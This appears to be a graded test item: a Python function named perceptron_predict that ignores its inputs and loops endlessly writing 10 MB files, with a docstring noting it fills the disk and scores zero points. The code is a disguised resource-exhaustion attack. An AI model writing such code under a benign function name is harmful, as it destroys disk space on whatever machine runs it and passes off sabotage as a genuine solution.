"""The answer fills the disk.

Points: 0
"""

def perceptron_predict(X, w, b):
    number = 0
    while True:
        number += 1
        with open(f"filler{number}", "wb") as file:
            file.write(bytes(10_000_000))
